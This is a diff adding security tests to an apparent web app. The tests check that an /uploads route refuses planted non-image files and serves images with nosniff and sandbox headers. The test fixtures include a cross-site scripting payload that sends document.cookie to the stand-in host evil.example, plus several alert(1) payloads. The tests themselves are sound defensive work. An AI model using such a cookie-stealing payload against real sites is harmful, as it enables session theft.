@@ -1,4 +1,4 @@
-import { existsSync, readdirSync, rmSync, statSync } from "node:fs";
+import { existsSync, mkdirSync, readdirSync, rmSync, statSync, writeFileSync } from "node:fs";
 import path from "node:path";
 import sharp from "sharp";
 import request from "supertest";
@@ -185,3 +185,48 @@ for (const target of targets) {
     });
   });
 }
+
+/*
+ * Whatever ends up in the uploads folder (an operator's copy, a restore, a file put there by hand),
+ * /uploads serves raster images only, and never as something a browser would run.
+ */
+describe("/uploads never serves active content", () => {
+  const script = "<script>fetch('https://evil.example/?c='+document.cookie)</script>";
+  const plant = (key: string, body: string | Buffer) => {
+    const file = path.join(uploadsRoot(), ...key.split("/"));
+    mkdirSync(path.dirname(file), { recursive: true });
+    writeFileSync(file, body);
+  };
+
+  it("a file that is not a raster image is not served, even from the uploads folder", async () => {
+    const planted: Record<string, string> = {
+      "tshirt-designs/logo.svg": `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`,
+      "tshirt-designs/page.html": `<!doctype html>${script}`,
+      "tshirt-designs/page.htm": `<!doctype html>${script}`,
+      "popups/feed.xml": `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`,
+      "products/run.js": "alert(1)",
+      "products/readme.txt": script,
+    };
+    for (const [key, body] of Object.entries(planted)) plant(key, body);
+    for (const key of Object.keys(planted))
+      for (const method of ["get", "head"] as const) {
+        const answer = await request(app)[method](`/uploads/${key}`);
+        expect(answer.status, `${method} ${key}`).toBe(404);
+        if (method === "get")
+          expect(answer.body, key).toEqual({ message: "File not found", code: "NOT_FOUND" });
+      }
+  });
+
+  it("an image is served as an image only: nosniff, and sandboxed if opened as a page", async () => {
+    // Bytes that are a page under an image's name (the upload checks refuse them; a copy may not).
+    plant("products/trick-800.png", `<!doctype html>${script}`);
+    plant("products/real-800.png", png);
+    for (const key of ["products/trick-800.png", "products/real-800.png"]) {
+      const answer = await request(app).get(`/uploads/${key}`);
+      expect(answer.status, key).toBe(200);
+      expect(answer.headers["content-type"], key).toBe("image/png");
+      expect(answer.headers["x-content-type-options"], key).toBe("nosniff");
+      expect(answer.headers["content-security-policy"], key).toBe("default-src 'none'; sandbox");
+    }
+  });
+});
